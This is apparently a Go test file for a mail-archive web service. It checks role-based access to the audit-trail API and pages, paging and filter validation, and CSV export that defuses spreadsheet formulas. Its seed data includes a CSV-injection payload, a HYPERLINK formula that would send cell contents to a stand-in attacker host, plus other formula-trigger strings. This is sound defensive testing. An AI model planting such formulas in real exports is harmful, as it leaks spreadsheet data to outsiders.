package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"testing"

	"mailvault/service"
)

// hostileDetails are audit details a search can put in the trail that a
// spreadsheet would run, or that CSV must quote.
var hostileDetails = []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+2", "-3", "@SUM(A1)",
	`a "quoted", comma`, "plain"}

func seedAudit(t *testing.T, f *apiFixture) {
	t.Helper()
	for i, d := range hostileDetails {
		if err := f.users.Audit(context.Background(), service.AuditEntry{User: "=cmd", Action: service.ActionSearch, Detail: d, Remote: "10.0.0." + strconv.Itoa(i)}); err != nil {
			t.Fatal(err)
		}
	}
}

// TestAPIAuditRoles: the trail is the admin's and the auditor's, never a
// user's (403, no rows, and the attempt is a denied row); filters and
// paging are the service's.
func TestAPIAuditRoles(t *testing.T) {
	f := newAPIFixture(t)
	seedAudit(t, f)
	for _, tc := range []struct {
		name, token string
		want        int
	}{{"root", f.admin, 200}, {"aud", f.auditor, 200}, {"ann", f.ann, 403}} {
		code, body := f.get(t, tc.token, "/api/audit?action=search&user=%3Dcmd")
		if code != tc.want {
			t.Errorf("GET /api/audit as %s = %d %s, want %d", tc.name, code, body, tc.want)
			continue
		}
		if code != 200 {
			if bytes.Contains(body, []byte("HYPERLINK")) {
				t.Errorf("as %s: refused answer holds trail rows: %s", tc.name, body)
			}
			last, _ := f.users.AuditQuery(context.Background(), service.AuditFilter{Limit: 1})
			if len(last) != 1 || last[0].User != tc.name || last[0].Action != service.ActionDenied {
				t.Errorf("as %s: last row %+v, want their denied read", tc.name, last)
			}
			continue
		}
		var ans auditAnswer
		if err := json.Unmarshal(body, &ans); err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, e := range ans.Entries {
			got = append(got, e.Detail)
		}
		want := slices.Clone(hostileDetails)
		slices.Reverse(want)
		if !slices.Equal(got, want) {
			t.Errorf("as %s: details %q, want %q (newest first)", tc.name, got, want)
		}
	}
	// Paging: next_before walks the filtered trail, two at a time.
	var paged []string
	path := "/api/audit?user=%3Dcmd&limit=2"
	for range 10 {
		code, body := f.get(t, f.admin, path)
		var ans auditAnswer
		if code != 200 || json.Unmarshal(body, &ans) != nil {
			t.Fatalf("GET %s = %d %s", path, code, body)
		}
		for _, e := range ans.Entries {
			paged = append(paged, e.Detail)
		}
		if ans.NextBefore == 0 {
			break
		}
		path = "/api/audit?user=%3Dcmd&limit=2&before=" + strconv.FormatInt(ans.NextBefore, 10)
	}
	if len(paged) != len(hostileDetails) {
		t.Errorf("paged by 2: %q, want the %d entries", paged, len(hostileDetails))
	}
	for _, q := range []string{"limit=0", "limit=x", "limit=100000", "before=-1", "since=yesterday", "since=2024-02-01&until=2024-01-01"} {
		if code, body := f.get(t, f.admin, "/api/audit?"+q); code != http.StatusBadRequest && code != http.StatusUnprocessableEntity {
			t.Errorf("GET /api/audit?%s = %d %s, want 400", q, code, body)
		}
	}
	// The operator on the local socket reads it too.
	rec := httptest.NewRecorder()
	f.server.LocalHandler().ServeHTTP(rec, httptest.NewRequest("GET", "/api/audit?limit=1", nil))
	if rec.Code != 200 {
		t.Errorf("local socket GET /api/audit = %d %s", rec.Code, rec.Body)
	}
}

// TestAuditCSV: the CSV of the API and of the page is RFC 4180 with a
// header row, every formula cell defused with a leading apostrophe, and
// reads back (Go's encoding/csv; Python's csv module when python3 is
// there, and under CI=true it must be) to the stored text.
func TestAuditCSV(t *testing.T) {
	f := newAPIFixture(t)
	seedAudit(t, f)
	code, body := f.get(t, f.auditor, "/api/audit?format=csv&user=%3Dcmd")
	if code != 200 {
		t.Fatalf("GET /api/audit?format=csv = %d %s", code, body)
	}
	if !bytes.HasSuffix(body, []byte("\r\n")) || bytes.Count(body, []byte("\r\n")) != len(hostileDetails)+1 {
		t.Errorf("CSV lines: want %d CRLF-ended lines:\n%s", len(hostileDetails)+1, body)
	}
	check := func(who string, rows [][]string) {
		t.Helper()
		if len(rows) != len(hostileDetails)+1 || !slices.Equal(rows[0], service.AuditCSVHeader) {
			t.Fatalf("%s: %d rows, header %q", who, len(rows), rows[0])
		}
		for i, row := range rows[1:] {
			want := hostileDetails[len(hostileDetails)-1-i]
			if strings.ContainsAny(want[:1], "=+-@") {
				want = "'" + want
			}
			if row[4] != want || row[2] != "'=cmd" || row[3] != service.ActionSearch {
				t.Errorf("%s: row %d = %q, want detail %q by '=cmd", who, i+1, row, want)
			}
			if _, err := strconv.ParseInt(row[0], 10, 64); err != nil {
				t.Errorf("%s: row %d id %q", who, i+1, row[0])
			}
		}
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	check("encoding/csv", rows)

	py, err := exec.LookPath("python3")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("python3 is needed under CI=true")
		}
		t.Log("no python3: the CSV is not read by Python's csv module")
	} else {
		cmd := exec.Command(py, "-c", "import csv, json, sys; print(json.dumps(list(csv.reader(sys.stdin.buffer.read().decode('utf-8').splitlines(True), strict=True))))")
		cmd.Stdin = bytes.NewReader(body)
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("python csv: %v", err)
		}
		var prow [][]string
		if err := json.Unmarshal(out, &prow); err != nil {
			t.Fatal(err)
		}
		check("python csv", prow)
	}

	// The page's "export as CSV" link gives the same rows; a user has no
	// link and no page.
	c, _ := f.login(t, "aud", "correct horse")
	code, page, _ := getPage(t, c, f.srv.URL+"/audit?user=%3Dcmd")
	if code != 200 || !strings.Contains(page, `id="audit-csv"`) || !strings.Contains(page, `href="/audit"`) || !strings.Contains(page, "HYPERLINK") {
		t.Fatalf("GET /audit as auditor = %d\n%s", code, page)
	}
	code, csvPage, h := getPage(t, c, f.srv.URL+"/audit?format=csv&user=%3Dcmd")
	if code != 200 || !strings.HasPrefix(h.Get("Content-Type"), "text/csv") {
		t.Fatalf("GET /audit?format=csv = %d %s", code, h.Get("Content-Type"))
	}
	rows, err = csv.NewReader(strings.NewReader(csvPage)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	check("page csv", rows)

	ann, _ := f.login(t, "ann", "correct horse")
	if code, page, _ := getPage(t, ann, f.srv.URL+"/"); code != 200 || strings.Contains(page, `href="/audit"`) {
		t.Errorf("search page as a user: %d, audit link shown: %v", code, strings.Contains(page, `href="/audit"`))
	}
	for _, u := range []string{"/audit", "/audit?format=csv"} {
		if code, page, _ := getPage(t, ann, f.srv.URL+u); code != http.StatusForbidden || strings.Contains(page, "HYPERLINK") {
			t.Errorf("GET %s as a user = %d (rows shown: %v), want 403", u, code, strings.Contains(page, "HYPERLINK"))
		}
	}
}
